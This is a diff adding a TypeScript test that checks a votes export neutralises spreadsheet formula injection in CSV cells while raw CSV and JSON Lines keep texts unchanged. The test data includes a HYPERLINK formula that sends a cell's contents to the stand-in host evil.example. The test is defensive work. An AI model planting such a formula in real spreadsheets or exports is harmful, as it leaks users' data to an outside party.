@@ -1,7 +1,9 @@
 /** The table of the store's votes: what it holds in memory, what is in it, and that a break is logged. */
 import { assert, describe, it } from "@effect/vitest"
 import { Effect, Layer, Logger, Stream } from "effect"
+import { parse } from "csv-parse/sync"
 import type { VoteRow } from "../../../src/domain/VoteRow.ts"
+import * as SpreadsheetCell from "../../../src/io/SpreadsheetCell.ts"
 import * as VotesApi from "../../../src/service/http/VotesApi.ts"
 import { Desk } from "../../../src/service/store/Desk.ts"
 import { TaskStore } from "../../../src/service/store/TaskStore.ts"
@@ -68,6 +70,42 @@ describe("the table of votes", () => {
         Array.from({ length: 10 }, (_, i) => [`prompt ${i >> 1}`, i % 2 === 0 ? ann : bob, rationale.length]),
       )
       assert.lengthOf(rowsOf(yield* chunksOf({ expert: bob })), 5)
+    }).pipe(Effect.provide(store(":memory:"))),
+  )
+
+  it.effect("has no formulas in CSV, which can be undone; JSON Lines and raw CSV have the texts as they are", () =>
+    Effect.gen(function* () {
+      const { exportVotes } = yield* Desk
+      const [ann = ""] = yield* experts
+      const texts = ["=1+1", "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "'=1", "'tis", "a=b"]
+      const link = '=HYPERLINK("http://evil.example/?x="&B1,"click")'
+      yield* create(texts.map((text) => [text, link, "b"] as const))
+      const queue = yield* VoteQueue
+      for (const _ of texts) {
+        const item = yield* next(ann)
+        yield* queue.vote(ann, item.itemId, voteFor(item, link, link))
+      }
+      const cellsOf = Effect.fnUntraced(function* (raw: boolean) {
+        const text = yield* Stream.mkString(Stream.decodeText(exportVotes("csv", {}, raw)))
+        const [head = [], ...records] = parse(text, { relax_column_count: false })
+        const at = (name: string) => records.map((record) => record[head.indexOf(name)])
+        return { prompts: at("prompt"), completions: at("completions"), rationales: at("rationale") }
+      })
+      const safe = yield* cellsOf(false)
+      assert.deepStrictEqual(safe.prompts, texts.map(SpreadsheetCell.neutralize))
+      assert.notDeepEqual(safe.prompts, texts)
+      assert.deepStrictEqual(
+        safe.rationales,
+        texts.map(() => `'${link}`),
+      )
+      const raw = yield* cellsOf(true)
+      assert.deepStrictEqual(raw.prompts, texts)
+      // A list is JSON.
+      assert.deepStrictEqual(safe.completions, raw.completions)
+      assert.deepStrictEqual(
+        rowsOf(yield* chunksOf()).map(({ prompt }) => prompt),
+        texts,
+      )
     }).pipe(Effect.provide(store(":memory:"))),
   )
 
